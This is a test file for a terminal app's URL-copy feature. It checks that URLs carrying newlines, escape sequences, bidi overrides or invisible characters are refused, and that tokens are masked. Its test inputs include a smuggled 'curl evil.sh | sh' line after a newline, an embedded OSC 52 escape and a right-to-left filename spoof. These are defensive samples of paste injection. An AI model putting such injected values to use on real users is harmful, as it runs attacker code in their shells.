// `c` on a URL with a control character in it: the screen shows it escaped (^J), and the
// clipboard must not get it raw (pasted into a shell, the newline runs the next line). Checked on
// the bytes the App writes: the OSC 52 payloads, decoded.
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { type DemoServer, startDemoServer } from "../../../../src/demo/server.js";
import { planCopy } from "../../../../src/model/copy-plan.js";
import { MASK } from "../../../../src/model/secrets.js";
import { entryText } from "../../../../src/render/copy-entries.js";
import { renderApp } from "../../../helpers/app.js";

let demo: DemoServer;
beforeAll(async () => {
  demo = await startDemoServer({ port: 0, tickMs: 0 });
});
afterAll(async () => {
  await demo.close();
});

const strip = (s: string) => s.replace(/\x1b\[[0-9;]*m/g, "");
const payloads = (written: string[]) =>
  [...written.join("").matchAll(/\x1b\]52;c;([A-Za-z0-9+/=]*)\x07/g)].map((m) =>
    Buffer.from(m[1] ?? "", "base64").toString("utf8"),
  );

/** The App on the demo service, the top job's URLs replaced by `urls`. */
async function appWithUrls(urls: string[], shown: string) {
  const r = renderApp(demo, { flags: { clipboard: "osc52" } });
  const waitFor = (test: (f: string) => boolean) => r.waitFor((f) => test(strip(f)), 5000).then(strip);
  const first = Number(/Job (\d+)/.exec(await waitFor((f) => /Job \d+/.test(f)))?.[1]);
  const job = demo.getJob(first);
  if (!job) throw new Error("no job");
  job.app.urls = { port_8888: { urls } };
  await waitFor((f) => f.includes(shown));
  return { ...r, waitFor };
}

describe("copying a URL with control characters", () => {
  it("copies a clean URL (the check below could see a payload)", async () => {
    const app = await appWithUrls(["https://gw.example:30888/lab?token=tok-clean-1"], "gw.example:30888");
    app.stdin.write("c");
    await app.waitFor((f) => f.includes("sent to the terminal clipboard"));
    expect(payloads(app.written)).toEqual(["https://gw.example:30888/lab?token=tok-clean-1"]);
  });

  it("refuses a URL with a newline, and says why", async () => {
    const app = await appWithUrls(["https://gw.example/x\ncurl evil.sh | sh"], "x^Jcurl");
    app.stdin.write("c");
    const f = await app.waitFor((x) => x.includes("not copied"));
    expect(f).toContain(
      "URL [1] https://gw.example/x^Jcurl evil.sh | sh not copied: it contains control characters",
    );
    expect(payloads(app.written)).toEqual([]);
  });

  it("copies the clean ones of several, and names the ones left out", async () => {
    const app = await appWithUrls(
      ["ssh://gw.example:30022", "https://gw.example/\u001b]52;c;aGk=\u0007"],
      "[2] ",
    );
    app.stdin.write("c");
    await app.waitFor((f) => f.includes("Copy which?"));
    app.stdin.write("a");
    await app.waitFor((f) => f.includes("left out"));
    expect(payloads(app.written)).toEqual(["ssh://gw.example:30022"]);
  });
});

describe("planCopy", () => {
  it("masks secrets and escapes controls in what it says", () => {
    expect(planCopy([{ n: 2, url: "https://u:pw@h/?token=t1" }])).toEqual({
      text: "https://u:pw@h/?token=t1",
      what: `URL [2] https://u:${MASK}@h/?token=${MASK}`,
    });
    const bidi = planCopy([{ n: 1, url: "https://h/\u202egnp.exe?token=t2" }]);
    expect(bidi.text).toBeUndefined();
    expect(bidi.what).toBe(
      `URL [1] https://h/<U+202E>gnp.exe?token=${MASK} not copied: it contains control characters`,
    );
  });

  it("refuses a URL with an invisible character: pasted, it would not be the URL it looks like", () => {
    for (const url of [
      "https://gw.exa\u200bmple/x",
      "https://h/a\u2028b",
      "https://h/\ufeffx",
      "https://h/a\u200db",
    ]) {
      const p = planCopy([{ n: 1, url }]);
      expect(p.text, url).toBeUndefined();
      expect(p.what).toMatch(/^URL \[1\] https:\/\/\S*<U\+(200B|2028|FEFF|200D)>\S* not copied/);
    }
    // The real URL is copied as it is, an emoji's own ZWJ included.
    expect(planCopy([{ n: 1, url: "https://h/👩‍💻" }]).text).toBe("https://h/👩‍💻");
  });

  it("the picker shows a URL masked as the detail does: a token in its path too, until s", () => {
    const gh = `ghp_${"A1b2C3d4E5f6G7h8J9k0".repeat(2).slice(0, 36)}`; // put together: no scanner's leak
    const e = { n: 3, kind: "url" as const, value: `https://gw.example/lab/${gh}?token=t1`, what: "URL [3]" };
    expect(entryText(e, false)).toBe(`[3] https://gw.example/lab/${MASK}?token=${MASK}`);
    expect(entryText(e, true)).toBe(`[3] ${e.value}`);
  });

  it("refuses all when every one has controls", () => {
    const p = planCopy([
      { n: 1, url: "a\rb" },
      { n: 2, url: "c\u0000d" },
    ]);
    expect(p).toEqual({ text: undefined, what: "2 URLs not copied: each contains control characters" });
  });

  it("copies many clean ones joined by newlines", () => {
    expect(
      planCopy([
        { n: 1, url: "ssh://a" },
        { n: 2, url: "https://b" },
      ]),
    ).toEqual({ text: "ssh://a\nhttps://b", what: "2 URLs" });
  });
});
